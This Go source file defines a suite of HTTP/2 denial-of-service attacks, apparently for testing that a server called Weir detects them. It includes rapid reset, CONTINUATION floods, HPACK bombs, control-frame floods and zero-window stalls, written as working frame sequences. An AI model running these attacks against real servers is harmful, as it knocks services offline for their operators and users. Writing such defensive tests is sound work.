package h2attack

import (
	"bytes"
	"strings"

	"golang.org/x/net/http2"
)

// Attack is one round of an attack, to be played again and again. Of the server it wants an answer at once for "/", a very long one for
// "/big", and none at all for "/slow".
type Attack struct {
	Name     string
	Reason   string // Weir counts it as; "" = timeouts end it
	Settings []http2.Setting
	Once     bool // one round is all: then it waits to be cut
	round    func(k *Attacker)
}

// indexed refers to the newest entry of the dynamic table.
const indexed = 0x80 | 62

// late is by how much the numbers of streams differ that are let run for a moment.
const late = 80

// All are the attacks.
var All = []Attack{
	{Name: "rapid reset", Reason: "h2_rapid_reset", round: func(k *Attacker) { k.fr.WriteRSTStream(k.open(true, k.block("/")), http2.ErrCodeCancel) }},
	{Name: "answers stopped in their midst", Reason: "h2_rapid_reset", round: func(k *Attacker) {
		if id := k.open(true, k.block("/big")); id > late {
			k.fr.WriteRSTStream(id-late, http2.ErrCodeCancel)
		}
	}},
	{Name: "made you reset, by an increment of 0", Reason: "h2_made_you_reset", round: func(k *Attacker) {
		k.fr.WriteRawFrame(http2.FrameWindowUpdate, 0, k.open(false, k.block("/")), make([]byte, 4))
	}},
	{Name: "made you reset, by data after the end", Reason: "h2_made_you_reset", round: func(k *Attacker) {
		k.fr.WriteData(k.open(true, k.block("/slow")), true, []byte("x"))
	}},
	{Name: "made you reset, by a window that overflows", Reason: "h2_made_you_reset", round: func(k *Attacker) {
		k.fr.WriteWindowUpdate(k.open(false, k.block("/")), 1<<31-1)
	}},
	{Name: "made you reset, a moment later", Reason: "h2_made_you_reset", round: func(k *Attacker) {
		if id := k.open(true, k.block("/slow")); id > late {
			k.fr.WriteData(id-late, true, []byte("x"))
		}
	}},
	{Name: "priority of itself", Reason: "h2_made_you_reset", round: func(k *Attacker) {
		id := k.open(false, k.block("/"))
		k.fr.WritePriority(id, http2.PriorityParam{StreamDep: id})
	}},
	{Name: "a length that is not kept", Reason: "h2_made_you_reset", round: func(k *Attacker) {
		k.fr.WriteData(k.open(false, k.block("/", "content-length", "1")), false, []byte("xyz"))
	}},
	{Name: "fields that are malformed", Reason: "h2_made_you_reset", round: func(k *Attacker) { k.open(true, k.block("/", "X-Y", "z")) }},
	{Name: "continuation without end", Reason: "h2_continuation_flood", round: func(k *Attacker) {
		k.first(true)
		k.fr.WriteContinuation(1, false, bytes.Repeat([]byte{0x82}, 4096))
	}},
	{Name: "empty continuation", Reason: "h2_continuation_flood", round: func(k *Attacker) {
		k.first(true)
		k.fr.WriteContinuation(1, false, nil)
	}},
	{Name: "HPACK bomb", Reason: "h2_header_bomb", round: func(k *Attacker) { // one octet of it is a field of 4,000
		k.open(true, append(k.block("/", "x-bomb", strings.Repeat("b", 3900)), bytes.Repeat([]byte{indexed}, 12000)...))
	}},
	{Name: "crumbs of cookies", Reason: "h2_header_bomb", round: func(k *Attacker) {
		k.open(true, append(k.block("/", "cookie", "a=b"), bytes.Repeat([]byte{indexed}, 12000)...))
	}},
	{Name: "heads that are too large", Reason: "h2_made_you_reset", round: func(k *Attacker) {
		k.open(true, append(k.block("/", "x", "y"), bytes.Repeat([]byte{indexed}, 300)...))
	}},
	{Name: "junk as a header block", Reason: "h2_compression", round: func(k *Attacker) { k.open(true, bytes.Repeat([]byte{0xff}, 16)) }},
	{Name: "more streams than may be open", Reason: "h2_flood", round: func(k *Attacker) { k.open(false, k.block("/slow")) }},
	{Name: "pings", Reason: "h2_flood", round: func(k *Attacker) { k.fr.WritePing(false, [8]byte{}) }},
	{Name: "settings", Reason: "h2_flood", round: func(k *Attacker) { k.fr.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 4096}) }},
	{Name: "priorities", Reason: "h2_flood", round: func(k *Attacker) { k.fr.WritePriority(9, http2.PriorityParam{StreamDep: 7}) }},
	{Name: "frames of no known type", Reason: "h2_flood", round: func(k *Attacker) { k.fr.WriteRawFrame(0xb, 0xff, 3, []byte("junk")) }},
	{Name: "dribbled windows", Reason: "h2_flood", round: func(k *Attacker) { k.fr.WriteWindowUpdate(0, 1) }},
	{Name: "empty data", Reason: "h2_flood", round: func(k *Attacker) {
		k.first(false)
		k.fr.WriteData(1, false, nil)
	}},
	{Name: "data of one octet", Reason: "h2_flood", round: func(k *Attacker) {
		k.first(false)
		k.fr.WriteData(1, false, []byte("x"))
	}},
	{Name: "data behind a reset", Reason: "h2_flood", round: func(k *Attacker) {
		if k.next == 1 {
			k.first(false)
			k.fr.WriteRawFrame(http2.FrameWindowUpdate, 0, 1, make([]byte, 4))
		}
		k.fr.WriteData(1, false, make([]byte, 16<<10))
	}},
	{Name: "padding without data", Reason: "h2_flood", round: func(k *Attacker) {
		k.first(false)
		k.fr.WriteDataPadded(1, false, nil, make([]byte, 255))
	}},
	{Name: "windows of one octet", Reason: "h2_flood", Settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1}}, round: func(k *Attacker) {
		if k.next == 1 {
			k.open(true, k.block("/big"))
		}
		k.fr.WriteWindowUpdate(1, 1)
	}},
	{Name: "no window for a hundred big answers", Settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, Once: true, round: func(k *Attacker) {
		for range 100 {
			k.open(true, k.block("/big"))
		}
	}},
	{Name: "a hundred bodies that never come", Once: true, round: func(k *Attacker) {
		for range 100 {
			k.fr.WriteData(k.open(false, k.block("/", "content-length", "100000")), false, make([]byte, 100))
		}
	}},
}
